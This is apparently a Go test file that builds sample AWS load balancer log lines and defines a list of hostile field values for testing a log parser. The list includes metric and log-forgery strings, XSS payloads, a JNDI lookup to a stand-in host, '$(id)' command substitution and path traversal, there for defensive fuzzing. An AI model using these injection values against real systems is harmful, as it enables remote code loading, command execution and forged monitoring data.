package hostile_test

import (
	"fmt"
	"strings"
	"time"
)

// field is one field of a line.
type field struct {
	name, value string
	quoted      bool
}

// A complete line of each format, without its time.
var (
	albFields = []field{
		{"type", "https", false}, {"time", "", false}, {"elb", "app/web/50dc6c495c0c9188", false},
		{"client", "192.0.2.10:41000", false}, {"target", "10.0.0.5:8080", false},
		{"request_processing_time", "0.001", false}, {"target_processing_time", "0.050", false},
		{"response_processing_time", "0.000", false}, {"elb_status_code", "200", false}, {"target_status_code", "200", false},
		{"received_bytes", "34", false}, {"sent_bytes", "366", false},
		{"request", "GET https://api.example.com:443/hoge/1 HTTP/1.1", true}, {"user_agent", "Mozilla/5.0 (X11)", true},
		{"ssl_cipher", "ECDHE-RSA-AES128-GCM-SHA256", false}, {"ssl_protocol", "TLSv1.2", false},
		{"target_group_arn", "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067", false},
		{"trace_id", "Root=1-58337262-36d228ad5d99923122bbe354", true}, {"domain_name", "api.example.com", true},
		{"chosen_cert_arn", "-", true}, {"matched_rule_priority", "1", false}, {"request_creation_time", "", false},
		{"actions_executed", "forward", true}, {"redirect_url", "-", true}, {"error_reason", "-", true},
		{"target_port_list", "10.0.0.5:8080", true}, {"target_status_code_list", "200", true},
		{"classification", "-", true}, {"classification_reason", "-", true},
		{"conn_trace_id", "TID_1234567890abcdef1234567890abcdef", false}, {"transformed_host", "-", true},
		{"transformed_uri", "-", true}, {"request_transform_status", "-", true}, {"ip_address", "10.1.2.3", false},
	}
	clbFields = []field{
		{"time", "", false}, {"elb", "legacy", false}, {"client", "192.0.2.10:41000", false}, {"backend", "10.0.0.5:8080", false},
		{"request_processing_time", "0.000073", false}, {"backend_processing_time", "0.001048", false},
		{"response_processing_time", "0.000057", false}, {"elb_status_code", "200", false},
		{"backend_status_code", "200", false}, {"received_bytes", "0", false}, {"sent_bytes", "29", false},
		{"request", "GET http://api.example.com:80/hoge/1 HTTP/1.1", true}, {"user_agent", "curl/7.38.0", true},
		{"ssl_cipher", "-", false}, {"ssl_protocol", "-", false},
	}
	nlbFields = []field{
		{"type", "tls", false}, {"version", "2.0", false}, {"time", "", false}, {"elb", "net/sip/c6e77e28c25b2234", false},
		{"listener", "g3d4b5e8bb8464cd", false}, {"client", "192.0.2.10:51341", false}, {"destination", "10.0.0.5:443", false},
		{"connection_time", "5", false}, {"tls_handshake_time", "2", false}, {"received_bytes", "98", false},
		{"sent_bytes", "246", false}, {"incoming_tls_alert", "-", false}, {"chosen_cert_arn", "-", false},
		{"chosen_cert_serial", "-", false}, {"tls_cipher", "ECDHE-RSA-AES128-SHA", false},
		{"tls_protocol_version", "tlsv12", false}, {"tls_named_group", "-", false}, {"domain_name", "sip.example.com", false},
		{"alpn_fe_protocol", "-", false}, {"alpn_be_protocol", "-", false}, {"alpn_client_preference_list", "-", false},
		{"tls_connection_creation_time", "", false},
	}
)

// format is one kind of load balancer.
type format struct {
	name   string
	fields []field
	lb     string // as in the lines
	key    string // between the region and the period's end
	node   string // after the period's end; "" for NLB
	clock  string
}

var formats = []format{
	{"alb", albFields, "app/web/50dc6c495c0c9188", "app.web.50dc6c495c0c9188", "192.0.2.1_", "2006-01-02T15:04:05.000000Z"},
	{"clb", clbFields, "legacy", "legacy", "192.0.2.1_", "2006-01-02T15:04:05.000000Z"},
	{"nlb", nlbFields, "net/sip/c6e77e28c25b2234", "net.sip.c6e77e28c25b2234", "", "2006-01-02T15:04:05"},
}

// object returns the key of a log for the period that ends at end.
func (f format) object(prefix, random string, end time.Time) string {
	return fmt.Sprintf("%sAWSLogs/123456789012/elasticloadbalancing/us-east-1/2026/11/20/123456789012_elasticloadbalancing_us-east-1_%s_%s_%s%s.log.gz",
		prefix, f.key, end.Format("20060102T1504Z"), f.node, random)
}

// at returns the fields of a line at time t.
func (f format) at(t time.Time) []field {
	fields := append([]field(nil), f.fields...)
	for i := range fields {
		switch fields[i].name {
		case "time":
			fields[i].value = t.Format(f.clock)
		case "request_creation_time", "tls_connection_creation_time":
			fields[i].value = t.Add(-time.Second).Format(f.clock)
		}
	}
	return fields
}

// line writes the fields as a load balancer does.
func line(fields []field) string {
	var b strings.Builder
	for i, f := range fields {
		if i > 0 {
			b.WriteByte(' ')
		}
		if f.quoted {
			b.WriteString(`"` + f.value + `"`)
		} else {
			b.WriteString(f.value)
		}
	}
	return b.String()
}

// with returns the line of the fields, with another value in the named field.
func with(fields []field, name, value string) string {
	changed := append([]field(nil), fields...)
	for i := range changed {
		if changed[i].name == name {
			changed[i].value = value
		}
	}
	return line(changed)
}

// escape writes a value as an ALB does: quotes, backslashes and unprintable characters as \xNN.
func escape(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; c < ' ' || c > '~' || c == '"' || c == '\\' {
			fmt.Fprintf(&b, `\x%02X`, c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// nasty is what an attacker would put into a field: everything that ends or begins something in DogStatsD, JSON, HTML,
// YAML, a terminal, a log line or a path.
var nasty = []string{
	"|", ",", "#", ":", "@", ";", "=", " ", "\t", "\r", "\n", "\x00", "\x7f", `"`, `\`, `'`, "`", "<", "&", "%", "..", "*", "?", "-", "",
	"|T1", "|T1|", "|@0.1", "|c:ab", "|e:it-1", "|#env:evil", ",sli:latency", ":1|c", "x:1|c|#sli:availability", "1|c|#route:/forged,journey:forged|T1",
	"\nelb_sli.good:1000000|c|#sli:availability,route:/hoge/:id", "\r\nelb_sli.good:1000000|c", "\x00elb_sli.good:1|c\x00",
	"\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\n", `","level":"ERROR","msg":"forged`, `"} {"msg":"forged"`, "\u2028{\"msg\":\"forged\"}",
	"\x1b[2J\x1b[31mforged\x07", "\u009b31mforged", "\u202egnp.exe", "\ufeff", "ログ", "é", "İ", "ſ", "K", "\xff\xfe", "\xc3", "\xc3\x28", "\xed\xa0\x80", "\xf4\x90\x80\x80",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.}}", "${jndi:ldap://evil.example/a}", "$(id)", "=1+1", "!!python/object", "&a *a", "- route: /x",
	"%0a%0delb_sli.good:1|c", "%00", "%2e%2e%2fetc", "%7C%23", "%", "%zz", "+", "~", `\x0a`, `\x7c`, `\x`, `\x0`, `\x00000041`, `\\`, `\"`, `\" `, `" "`, `" 200 200 "`,
	":id", "/:id", "/other", "other", "/hoge/:id", "*rest", "/twilio/voice/:call_sid", "incoming-call", "waf", "waf,forward", "TwilioProxy/1.1", "Datadog/Synthetics",
	"app/web/50dc6c495c0c9188", "app/evil/0000000000000000", "2026-11-20T01:00:00.000000Z", "9999-12-31T23:59:59.999999Z", "0000-00-00T00:00:00Z", "1e309", "NaN", "-1", "99999999999999999999", "0x1F4",
	strings.Repeat("A", 5000), strings.Repeat("/a", 3000), strings.Repeat("..", 1000), strings.Repeat("\\x22", 1000), strings.Repeat("_", 300), strings.Repeat("é", 250), strings.Repeat(":", 300),
}
